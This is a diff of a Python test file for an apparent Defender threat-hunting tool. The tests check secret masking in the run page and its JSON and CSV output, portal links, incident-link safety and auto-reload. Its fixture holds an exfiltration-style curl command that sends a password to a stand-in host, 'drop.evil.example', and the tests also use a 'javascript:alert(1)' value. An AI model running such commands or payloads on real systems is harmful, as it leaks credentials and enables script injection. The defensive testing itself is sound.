@@ -1,4 +1,4 @@
-"""What a run's page, its rows and its CSV say: secrets masked as MASK_SECRETS says, and links to the query."""
+"""What a run's page, rows and CSV say: secrets masked as MASK_SECRETS says, and links to the query."""
 
 from __future__ import annotations
 
@@ -25,7 +25,7 @@ from tests.support.said import DEVICE, HUNTS, NOW, RUN_ID, WINDOW, outcome
 HUNT = "archive-then-upload"
 SECRET = "hunter2secret"
 COMMAND = f"curl --password={SECRET} https://drop.evil.example"
-# Defender's dynamic columns are objects, lists, or text.
+# Defender's columns of the type dynamic hold objects, lists or text.
 ROW: dict[str, Any] = {
     "NetCmd": COMMAND,
     "Fields": {"token": SECRET, "n": 1},
@@ -38,7 +38,7 @@ EVERY_SETTING = pytest.mark.parametrize("mask", ["on", "off"])
 
 
 def run() -> Run:
-    """A run with a secret in every value that came from outside."""
+    """Return a run that has a secret in every value that came from outside."""
     group = Group((COMMAND,), 1, "2026-03-09T02:14:05Z", "2026-03-09T02:14:05Z")
     found = Found(HUNT, rows=1, columns=COLUMNS, shown=("NetCmd",), groups=(group,), group_count=1)
     chosen = Chosen(
@@ -52,17 +52,17 @@ def run() -> Run:
 
 
 @EVERY_SETTING
-def test_page_masks(mask: str) -> None:
-    """The page shows what looks like a secret only with MASK_SECRETS=off, wherever it stands."""
+def test_the_page_masks_secrets_unless_masking_is_off(mask: str) -> None:
+    """A password is shown only with MASK_SECRETS=off, in each of the six places where it stands."""
     page = run_page(run(), HUNTS, Settings(mask_secrets=mask), refresh=False)  # type: ignore[arg-type]
 
-    # The verdict, in the title and the heading; the incident, the row, the indicator, and what was dropped.
+    # The verdict, in the title and in the heading; the incident, the row, the indicator, the dropped entity.
     assert {"on": 0, "off": 6}[mask] == page.count(SECRET)
 
 
 @EVERY_SETTING
-def test_rows_mask(mask: str) -> None:
-    """The rows hide what the CSV hides: also in objects, which become text only where they hold a secret."""
+def test_rows_and_csv_mask_the_same_secrets(mask: str) -> None:
+    """Secrets in objects are masked too; an object becomes text only where it holds a secret."""
     secrets = mask == "on"
     body = json_rows(RAW, 10, mask=mask)
     text = csv_rows(RAW, 10, mask=mask).decode("utf-8-sig")
@@ -78,8 +78,8 @@ def test_rows_mask(mask: str) -> None:
         assert [ROW] == body["rows"]
 
 
-def test_portal() -> None:
-    """The link to Advanced Hunting holds the query that was run, with the entities of its own hunt."""
+def test_the_portal_link_holds_the_query_that_was_run() -> None:
+    """The query in Advanced Hunting is about the hunt's own entities, not about all of the run's."""
     own = Chosen((Device(name="srv-8.contoso.com"),))
     planned = run()
     assert planned.plan
@@ -95,8 +95,8 @@ def test_portal() -> None:
 @pytest.mark.parametrize(
     ("url", "links"), [("https://security.microsoft.com/incident2/1", 1), ("javascript:alert(1)", 0), ("", 0)]
 )
-def test_incident(url: str, links: int) -> None:
-    """The incident is a link where its address is one of the web's."""
+def test_the_incident_is_linked_only_to_a_web_address(url: str, links: int) -> None:
+    """An `https:` address makes it a link; with a `javascript:` address or none it is text."""
     ended = run()
     assert ended.plan
     page = run_page(
@@ -107,8 +107,8 @@ def test_incident(url: str, links: int) -> None:
     assert "javascript" not in page
 
 
-def test_waiting() -> None:
-    """A run that is not done says why, how far it is, and loads itself again."""
+def test_a_waiting_run_says_why_and_reloads() -> None:
+    """Its page gives the reason and how many hunts have answered, and reloads itself every five seconds."""
     plan = Plan(hunts=(PlannedHunt(HUNT, WINDOW), PlannedHunt("file-origin", WINDOW)))
     wait = Wait("Graph allows no more calls", NOW + timedelta(minutes=5))
     found = {"file-origin": Found("file-origin"), "device-card": Found("device-card")}
